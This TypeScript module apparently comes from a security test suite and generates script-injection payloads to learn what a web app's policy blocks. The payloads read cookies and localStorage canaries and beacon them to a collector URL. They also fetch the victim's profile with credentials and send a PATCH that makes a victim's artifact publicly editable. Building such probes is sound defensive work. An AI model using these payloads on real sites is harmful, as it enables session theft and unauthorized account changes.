// The attack of a payload once it can run a script, and the target for which it is written.
import type { Target } from "./payload.ts";

/** Stored in the app's origin; a report with the second part proves that the first was read. */
export const canary = {
  cookie: { name: "plinth_theme_seed", value: "kept-cookie-5f3a9c" },
  storage: { name: "plinth-kept", value: "kept-storage-81d27e" },
} as const;

export interface Aim extends Pick<Target, "name" | "collector" | "app" | "victim"> {
  readonly socketOf: () => string;
  readonly datagramsOf: () => string;
}

export function targetOf(aim: Aim): Target {
  const { collector, name, app, victim } = aim;
  return {
    name,
    collector,
    app,
    victim,
    // Few payloads need a socket, and there are few.
    get socket() {
      return aim.socketOf();
    },
    get datagrams() {
      return aim.datagramsOf();
    },
    hit: (way = "hit") => `${collector}/${name}/${way}`,
    tell: (way, expression) =>
      `(function(at){${tellFunction(name)}tell('${way}',${expression})})('${collector}/${name}/');`,
    strike: strikeOf(aim),
  };
}

/** Reports to the server elsewhere, and to the surrounding page, from which the test learns what the policy blocks. */
const tellFunction = (name: string): string =>
  `var tell=function(way,what){what=String(what);new Image().src=at+way+'?'+encodeURIComponent(what.slice(0,2000));` +
  `top.postMessage({struck:'${name}',way:way,what:what},'*')};`;

// Everything a script of the app's origin could do, each in its own try, so that one refusal does not hide another.
function strikeOf({ name, collector, app, victim }: Aim): string {
  const tries = [
    `cookie:function(){return document.cookie}`,
    `storage:function(){return localStorage.getItem('${canary.storage.name}')}`,
    `parent:function(){return parent.document.cookie}`,
    `top:function(){return top.localStorage.getItem('${canary.storage.name}')}`,
    `opener:function(){return opener.document.cookie}`,
  ];
  return [
    `(function(at){`,
    tellFunction(name),
    `tell('ran',self.origin);`,
    `var tries={${tries.join(",")}};`,
    `for(var way in tries)try{tell(way,tries[way]())}catch(e){console.info(e.message)}`,
    `fetch('${app}/api/profile/me',{credentials:'include'}).then(function(r){return r.text()})`,
    `.then(function(t){tell('profile',t)},function(e){console.info(e.message)});`,
    `fetch('${app}/api/artifacts/${victim}/access',{method:'PATCH',credentials:'include',`,
    `headers:{'content-type':'application/json'},body:JSON.stringify({publicEdit:true})})`,
    `.then(function(r){tell('access',r.status)},function(e){console.info(e.message)});`,
    `})('${collector}/${name}/')`,
  ].join("");
}
